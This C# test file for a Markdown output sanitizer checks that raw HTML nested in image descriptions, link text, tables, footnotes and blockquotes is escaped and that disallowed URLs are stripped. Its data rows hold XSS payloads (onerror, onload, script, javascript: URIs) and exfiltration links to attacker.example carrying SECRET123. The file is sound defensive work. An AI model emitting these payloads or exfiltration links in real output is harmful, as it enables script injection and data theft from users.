using Markdig;

namespace SecureKernel.Tests.Output;

/// <summary>
/// Raw HTML and URLs nested where the Markdown rewriter must still reach them: image descriptions, link text, images in
/// links, links and images in image descriptions, table cells, nested emphasis and footnotes. Each case checks the safe
/// Markdown as clients render it (<see cref="MarkdownClients"/>) as well as the safe HTML.
/// </summary>
[TestClass]
public sealed class MarkdownNestingTests
{
    private const string Allowed = "trusted.example";
    private const string Img = "https://trusted.example/a.png";

    private static readonly OutputSanitizer s_sanitizer = new(new OutputSanitizerOptions { AllowedHosts = { Allowed } });

    [TestMethod]
    [DataRow("image description", $"![<img src=x onerror=alert(1)>]({Img})")]
    [DataRow("image description, math", $"![<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>]({Img})")]
    [DataRow("image description, svg and text", $"![a <svg onload=alert(1)> b <script>alert(1)</script>]({Img} \"t\")")]
    [DataRow("image description, angle-bracket destination", $"![<iframe src=https://attacker.example/>](<{Img}>)")]
    [DataRow("link text", "[<img src=x onerror=alert(1)>](https://trusted.example/)")]
    [DataRow("link text, removed link", "[<img src=x onerror=alert(1)> read](https://attacker.example/?d=SECRET123)")]
    [DataRow("image in link", $"[![<svg onload=alert(1)>]({Img})](https://trusted.example/)")]
    [DataRow("image in link in image", $"![x [![<img src=x onerror=alert(1)>]({Img})](https://trusted.example/)]({Img})")]
    [DataRow("table cell", $"| h |\n|---|\n| ![<img src=x onerror=alert(1)>]({Img}) |\n")]
    [DataRow("nested emphasis", $"**_~~![<iframe src=https://attacker.example/x>]({Img})~~_**")]
    [DataRow("footnote", $"x[^1]\n\n[^1]: ![<img src=x onerror=alert(1)>]({Img})\n")]
    [DataRow("list in blockquote", $"> - ![<object data=https://attacker.example/x>]({Img})\n")]
    [DataRow("reference image", "![<img src=x onerror=alert(1)>][r]\n\n[r]: https://trusted.example/a.png\n")]
    [DataRow("removed image", "![<img src=x onerror=alert(1)>](https://attacker.example/p.png)")]
    [DataRow("html comment", $"![<!-- --><img src=x onerror=alert(1)>]({Img})")]
    public void RawHtml_Nested_IsEscapedInTheMarkdown(string where, string markdown)
    {
        var r = s_sanitizer.SanitizeMarkdown(markdown);
        Assert.IsTrue(r.Findings.Any(f => f.Detail == "markdown.raw-html-escaped"), where + ": " + string.Join(", ", r.Findings.Select(f => f.Detail)));
        AssertMarkdownSafe(where, r);
    }

    [TestMethod]
    public void ImageDescription_RawHtml_EscapedAndImageKept()
    {
        var r = s_sanitizer.SanitizeMarkdown($"![<img src=x onerror=alert(1)>]({Img})");
        Assert.AreEqual($"![&lt;img src=x onerror=alert(1)>]({Img})", r.Markdown);
        Assert.AreEqual(1, r.Html.Split("<img").Length - 1, r.Html);
        StringAssert.Contains(r.Html, "alt=\"&lt;img src=x onerror=alert(1)&gt;\"");
        AssertMarkdownSafe("image description", r);
    }

    [TestMethod]
    public void ImageDescription_NestedImagesLinksAndAutolinks_GoThroughThePolicy()
    {
        const string md = $"![see ![x](https://attacker.example/p.png?d=SECRET123) and [y](https://attacker.example/?d=SECRET123) " +
            $"<https://attacker.example/?d=SECRET123> ![ok](https://cdn.trusted.example/ok.png)]({Img})";
        var r = s_sanitizer.SanitizeMarkdown(md);
        Assert.IsTrue(r.Findings.Any(f => f.Kind == FindingKind.Exfiltration), string.Join(", ", r.Findings.Select(f => f.Detail)));
        foreach (var (kind, url) in MarkdownClients.Urls(r.Markdown!))
            Assert.IsTrue(new Uri(url).Host.EndsWith(Allowed, StringComparison.Ordinal), $"{kind} {url} left live in {r.Markdown}");
        StringAssert.Contains(r.Markdown, "](https://cdn.trusted.example/ok.png)", "an allowed nested image stays");
        StringAssert.Contains(r.Markdown, $"]({Img})", "the outer image stays");
        AssertMarkdownSafe("nested in description", r);
    }

    [TestMethod]
    public void ImageDescription_NestedImages_CountTowardsTheCap()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { Allowed }, MaxImagesPerMessage = 1 });
        var r = sanitizer.SanitizeMarkdown($"![a ![b](https://trusted.example/b.png)]({Img})");
        Assert.IsTrue(r.Findings.Any(f => f.Detail == "image.cap-exceeded"));
        Assert.HasCount(1, MarkdownClients.Urls(r.Markdown!).Where(u => u.Kind == "image").ToList(), r.Markdown!);
        AssertMarkdownSafe("cap", r);
    }

    [TestMethod]
    public void CaptionClient_ExposesWhatMarkdigAltTextHides()
    {
        // The checker must see raw HTML left in a description, which Markdig's own renderer drops from alt text.
        const string raw = $"![<img src=x onerror=alert(1)> ![b](https://attacker.example/p.png)]({Img})";
        Assert.IsEmpty(IndependentDomCheck.Problems(MarkdownClients.Render(raw), Allowed));
        var problems = IndependentDomCheck.Problems(MarkdownClients.RenderWithCaptions(raw), Allowed);
        Assert.Contains("handler onerror", problems);
        Assert.Contains("autoload img.src", problems);
        Assert.IsNotEmpty(MarkdownClients.RawHtml(raw));
    }

    /// <summary>The checks every nested case gets: no raw HTML node in the safe Markdown, and its client renderings and the HTML safe.</summary>
    internal static void AssertMarkdownSafe(string where, SanitizedOutput r)
    {
        Assert.IsNotNull(r.Markdown);
        var raw = MarkdownClients.RawHtml(r.Markdown);
        Assert.IsEmpty(raw, $"{where}: raw HTML left in {r.Markdown}: {string.Join(", ", raw)}");
        foreach (var (label, html, client) in new[]
        {
            ("html", r.Html, false), ("client", MarkdownClients.Render(r.Markdown), true), ("captions", MarkdownClients.RenderWithCaptions(r.Markdown), true),
        })
        {
            // A client's own renderer adds footnote ids and classes; those are its markup, not the model's.
            var problems = IndependentDomCheck.Problems(html, Allowed).Where(p => !client || p != "attribute id").ToList();
            var verifier = s_sanitizer.Verify(html).Where(v => !client || v is not ("attribute:id" or "attribute:class")).ToList();
            Assert.IsEmpty(problems.Concat(verifier).ToList(), $"{where} {label}: {string.Join(", ", problems.Concat(verifier))} :: {r.Markdown} -> {html}");
        }
    }
}
